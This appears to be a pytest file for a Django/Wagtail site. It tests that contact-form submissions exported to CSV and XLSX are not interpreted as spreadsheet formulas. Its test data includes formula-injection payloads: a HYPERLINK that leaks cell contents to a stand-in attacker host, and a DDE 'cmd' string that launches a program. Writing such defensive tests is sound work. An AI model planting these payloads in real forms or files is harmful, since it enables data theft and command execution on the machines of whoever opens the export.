"""What strangers wrote into the contact form is text in whatever it is exported to."""

import csv
from collections.abc import Callable
from io import BytesIO, StringIO

import pytest
from django.test import Client
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from cms.users.models import User
from home.models import ContactPage
from tests.factories.contact import make_contact_page

LINK = '=HYPERLINK("https://attacker.example/?"&A1,"Read")'
ATTACKS = [LINK, "+1+cmd|' /c calc'!A1", "-2+3", "@SUM(1+1)", f"\t{LINK}", f"\r{LINK}", f"a\r\n{LINK}", f"a;{LINK}"]
SIGNS = "=+-@\t\r"


@pytest.fixture
def messages(admin: User, log_in: Callable[[User], Client]) -> Callable[[str], bytes]:
    """Returns what is exported of a page with an attack in each message, one in a field's label, and a character that
    no XML can say."""
    page: ContactPage = make_contact_page()
    page.form_fields.filter(clean_name="about").update(label=LINK)
    for text in [*ATTACKS, "\x0b\uffff after"]:
        answers = {"your_name": text, "e_mail": "a@example.org", "about": "Loan", "message": text}
        FormSubmission.objects.create(page=page, form_data=answers)

    def export(kind: str) -> bytes:
        answer = log_in(admin).get(f"/admin/forms/submissions/{page.pk}/", {"export": kind})
        assert answer.status_code == 200
        return b"".join(answer.streaming_content)

    return export


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_message_is_a_formula_in_a_csv_file_whichever_sign_parts_its_cells(
    messages: Callable[[str], bytes], delimiter: str
) -> None:
    text = messages("csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    assert [cell for cell in cells if cell.strip(' "')[:1] in set(SIGNS)] == []
    assert text.count("HYPERLINK") == 11  # in two fields of five messages, and the label


def test_no_message_is_a_formula_in_an_xlsx_file(messages: Callable[[str], bytes]) -> None:
    cells = [cell for row in load_workbook(BytesIO(messages("xlsx"))).active.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s", "d"}  # the time it was sent
    texts = {cell.value for cell in cells}
    assert {LINK, "+1+cmd|' /c calc'!A1", "\ufffd\ufffd after"} <= texts
